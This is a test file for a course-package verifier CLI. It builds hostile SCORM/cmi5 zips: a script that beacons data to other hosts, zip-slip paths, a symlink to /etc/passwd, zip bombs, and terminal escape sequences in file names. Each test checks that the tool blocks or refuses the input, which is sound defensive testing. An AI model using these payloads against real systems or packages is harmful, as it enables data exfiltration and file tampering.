import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OutputFile } from '../../../scripts/bundle/bundle-course.js';
import { launchBrowser } from '../../../scripts/lms/browser.js';
import { zipPackage } from '../../../scripts/package/index.js';
import { formatReport } from '../../../scripts/verify/format-report.js';
import { verifyPackage } from '../../../scripts/verify/verify-package.js';
import type { VerifyReport } from '../../../scripts/verify/verify-report.js';
import { deflatedZeros, hostileZip, type HostileEntry } from '../../support/hostile-zip.js';
import { unzip } from '../../unit/package/package-helpers.js';

// `coursemark verify` on hostile packages: the sample course's own packages with one hostile change
// each (a control that does nothing, a script that never returns, requests to other addresses),
// and zips written by the test's own zip writer (zip slip, bombs, 100,000 entries). The CLI runs as
// a child process with a TMPDIR of its own, so that what it leaves on disk and its peak memory
// (COURSEMARK_STATS) can be measured.
const repo = join(import.meta.dirname, '../../..');
const run = promisify(execFile);
const MiB = 1024 * 1024;
/** verify's documented peak memory on a refused zip (scripts/verify/README.md). */
const PEAK_RSS_MIB = 300;
let out: string;
let browser: Browser;
let listener: Server;
let listenerUrl: string;
const heard: string[] = [];
const zips = new Map<string, Uint8Array>();

beforeAll(async () => {
  out = await mkdtemp(join(tmpdir(), 'coursemark-hostile-'));
  await run(process.execPath, [join(repo, 'bin/coursemark.js'), 'build', join(repo, 'course'), '--out', out, '--target', 'scorm2004,cmi5']);
  for (const kind of ['scorm2004', 'cmi5']) zips.set(kind, new Uint8Array(await readFile(join(out, `the-psychology-of-cybercrime-image-based-sexual-abuse-1.0.0-${kind}.zip`))));
  // Another loopback server, standing for anything on the machine or the network a package could reach.
  listener = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  browser = await launchBrowser();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => listener?.close(resolve));
  await rm(out, { recursive: true, force: true });
});

const encoder = new TextEncoder();
const decoder = new TextDecoder();

/** The package with `change` applied to its files; throws when the change found nothing to change. */
async function changed(kind: string, change: (text: string, path: string) => string): Promise<Uint8Array> {
  let hits = 0;
  const files = unzip(zips.get(kind) ?? new Uint8Array()).map((file): OutputFile => {
    if (!/\.(js|html)$/.test(file.path)) return file;
    const before = decoder.decode(file.contents);
    const after = change(before, file.path);
    if (after === before) return file;
    hits += 1;
    return { path: file.path, contents: encoder.encode(after) };
  });
  if (hits === 0) throw new Error('the hostile change found nothing to change: update the test');
  return zipPackage(files);
}

/** A script at the top of the course page (index.html). */
const withScript = (kind: string, script: string): Promise<Uint8Array> =>
  changed(kind, (text, path) => (path === 'index.html' ? text.replace('<head>', `<head><script>${script}</script>`) : text));

async function timed(zip: Uint8Array, timeoutSeconds?: number): Promise<{ report: VerifyReport; seconds: number }> {
  const started = performance.now();
  const report = await verifyPackage(zip, { name: 'hostile.zip', answers: 'correct', resume: false, ...(timeoutSeconds === undefined ? {} : { timeoutSeconds }) }, () => Promise.resolve(browser));
  return { report, seconds: (performance.now() - started) / 1000 };
}

describe('verify bounds the learner', () => {
  it('a "Move up" button that does nothing: the learner gives up after n² clicks, and says so', async () => {
    // The sequencing controls' "Move up" handler (components/questions/sequencing.ts), `() => move(ctx, id, -1)` once minified.
    const zip = await changed('scorm2004', (text) => text.replace(/\(\)=>([\w$]+)\(([\w$]+),([\w$]+),-1\)/, '()=>{}'));
    const { report, seconds } = await timed(zip);
    expect(report.findings.join('\n')).toMatch(/The walk through the course stopped: the sequencing question's steps did not come into order after \d+ clicks on "Move up"/);
    expect(seconds).toBeLessThan(60);
  });

  it('a page whose script never returns: verify stops at --timeout, closes everything and says so', async () => {
    const zip = await withScript('scorm2004', 'for (;;) {}');
    const { report, seconds } = await timed(zip, 6);
    expect(report.findings[0]).toMatch(/^verify stopped the learner after 6 s \(--timeout 6\): the course never reached its end/);
    // The time limit, plus at most the wind-down for closing pages and servers.
    expect(seconds).toBeLessThan(6 + 12);
    expect(formatReport(report)).toMatch(/Result: 1 problem\(s\)/);
  });
});

describe('verify keeps the package inside its fence', () => {
  const phoneHome = (): string =>
    [
      `fetch('${listenerUrl}/fetch').catch(() => {})`,
      `new Image().src = '${listenerUrl}/image'`,
      `navigator.sendBeacon('${listenerUrl}/beacon', 'x')`,
      `try { new WebSocket('${listenerUrl.replace('http', 'ws')}/socket') } catch {}`,
      `fetch('https://example.org/collect').catch(() => {})`,
    ].join(';');

  for (const kind of ['scorm2004', 'cmi5']) {
    it(`${kind}: requests to other loopback ports and to the web are blocked, none arrives, and each is a finding`, async () => {
      heard.length = 0;
      const { report } = await timed(await withScript(kind, phoneHome()));
      const blocked = report.findings.find((finding) => finding.startsWith('The package tried to reach'));
      expect(blocked, report.findings.join('\n')).toBeDefined();
      for (const path of ['/fetch (fetch)', '/image (image)', '/beacon (fetch)']) expect(blocked).toContain(`${listenerUrl}${path}`);
      // The WebSocket asks the proxy for a tunnel to the listener.
      expect(blocked).toContain(`${new URL(listenerUrl).host} (connection)`);
      expect(blocked).toContain('example.org');
      expect(heard).toEqual([]);
      // Everything else still ran: the course was walked and recorded.
      expect(report.recorded?.success).toBe('passed');
      expect(report.sandbox).toMatch(/^(on|off: .+)$/);
    });
  }
});

describe('the CLI on hostile zips (child process, own TMPDIR)', () => {
  async function cli(name: string, zip: Uint8Array, ...args: string[]): Promise<{ code: number; report: VerifyReport; seconds: number; peakMiB: number; left: string[] }> {
    const base = await mkdtemp(join(out, `${name}-`));
    const temp = join(base, 'tmp');
    await mkdir(temp);
    const file = join(base, `${name}.zip`);
    await writeFile(file, zip);
    const stats = join(base, 'stats.json');
    const started = performance.now();
    const child = await run(process.execPath, [join(repo, 'bin/coursemark.js'), 'verify', file, '--json', ...args], { env: { ...process.env, TMPDIR: temp, COURSEMARK_STATS: stats }, maxBuffer: 16 * MiB }).then(
      (result) => ({ code: 0, stdout: result.stdout }),
      (error: { code: number; stdout: string }) => ({ code: error.code, stdout: error.stdout }),
    );
    const seconds = (performance.now() - started) / 1000;
    const peakMiB = (JSON.parse(await readFile(stats, 'utf8')) as { maxRssKiB: number }).maxRssKiB / 1024;
    // tsx keeps its cache in TMPDIR when the CLI runs from its TypeScript sources: not verify's doing.
    const left = [...(await readdir(temp)).filter((entry) => !entry.startsWith('tsx-')), ...(await readdir(base)).filter((entry) => !['tmp', `${name}.zip`, 'stats.json'].includes(entry))];
    return { code: child.code, report: JSON.parse(child.stdout) as VerifyReport, seconds, peakMiB, left };
  }

  it('zip slip: entries that lead out are refused, and nothing is written outside the temporary folder', async () => {
    const marker = `coursemark-slip-${process.pid}-${Date.now()}`;
    const files = unzip(zips.get('scorm2004') ?? new Uint8Array());
    const entries: HostileEntry[] = [
      ...files.map((file) => ({ name: file.path, data: file.contents })),
      { name: `../../../../../../../../../tmp/${marker}`, data: encoder.encode('escaped') },
      { name: `../${marker}`, data: encoder.encode('escaped') },
      { name: `/tmp/${marker}`, data: encoder.encode('escaped') },
      { name: 'assets/passwd', data: encoder.encode('/etc/passwd'), unixMode: 0o120777 },
    ];
    const result = await cli('slip', hostileZip(entries));
    expect(result.code).toBe(1);
    expect(result.report.manifest.filter((finding) => finding.startsWith('path-invalid:'))).toHaveLength(3);
    expect(result.report.manifest).toContain('zip-symlink: assets/passwd: refused, the entry is a symbolic link, not a file; it was not unpacked. LMSs unpack regular files only.');
    expect(result.left).toEqual([]);
    expect(existsSync(join('/tmp', marker))).toBe(false);
    expect(existsSync(join(out, marker))).toBe(false);
  }, 120_000);

  it('the zip bomb (500 entries sharing one 10 MB run): refused at once, in little memory', async () => {
    const entries: HostileEntry[] = [{ name: 'f0.txt', raw: deflatedZeros(10 * MiB), declaredSize: 10 * MiB }];
    for (let index = 1; index < 500; index++) entries.push({ name: `f${index}.txt`, sharesDataOf: 0 });
    const result = await cli('bomb', hostileZip(entries));
    expect(result.code).toBe(1);
    expect(result.report.manifest.join('\n')).toMatch(/zip-overlap: .* share bytes of the archive/);
    expect(result.report.findings).toEqual(['The package was not unpacked or launched: it goes beyond what verify accepts from a zip (see above).']);
    expect(result.peakMiB).toBeLessThan(PEAK_RSS_MIB);
    expect(result.left).toEqual([]);
    console.log(`zip bomb: verdict in ${result.seconds.toFixed(2)} s, peak RSS ${result.peakMiB.toFixed(0)} MiB`);
  });

  it('an entry that lies about its size (1000 bytes declared, 64 MiB inside): cut off, in little memory', async () => {
    const result = await cli('liar', hostileZip([{ name: 'imsmanifest.xml', data: encoder.encode('<manifest/>') }, { name: 'index.html', raw: deflatedZeros(64 * MiB), declaredSize: 1000 }]));
    expect(result.code).toBe(1);
    expect(result.report.manifest).toEqual(['zip-size: index.html: inflates to more than the 1000 bytes its header declares, so the sizes checked beforehand mean nothing; unpacking stopped.']);
    expect(result.peakMiB).toBeLessThan(PEAK_RSS_MIB);
    expect(result.left).toEqual([]);
    console.log(`lying size: verdict in ${result.seconds.toFixed(2)} s, peak RSS ${result.peakMiB.toFixed(0)} MiB`);
  });

  it('100,000 entries (ZIP64): counted, refused, exit 1', async () => {
    const entries: HostileEntry[] = Array.from({ length: 100_000 }, (_, index) => ({ name: `e${index}`, method: 0 }));
    const result = await cli('entries', hostileZip(entries, { zip64: true }));
    expect(result.code).toBe(1);
    expect(result.report.manifest).toEqual(['zip-entries: the archive lists 100,000 entries; verify opens packages of at most 20,000. An LMS package has tens or hundreds.']);
    expect(result.left).toEqual([]);
  });

  it('escape sequences in entry names reach the terminal escaped', async () => {
    const entries: HostileEntry[] = [{ name: 'index.html', data: encoder.encode('<!doctype html>') }, { name: '\u001b[2J\u001b]0;pwned\u0007\nResult: OK.txt', data: encoder.encode('x') }];
    const base = await mkdtemp(join(out, 'escape-'));
    const file = join(base, 'escape.zip');
    await writeFile(file, hostileZip(entries));
    const text = await run(process.execPath, [join(repo, 'bin/coursemark.js'), 'verify', file], { env: { ...process.env, TMPDIR: base } }).then(
      (result) => result.stdout,
      (error: { stdout: string }) => error.stdout,
    );
    expect(text).toContain('\\u001b[2J\\u001b]0;pwned\\u0007\\u000aResult: OK.txt');
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text.split('\n').filter((line) => line.startsWith('Result:'))).toHaveLength(1);
  });
});
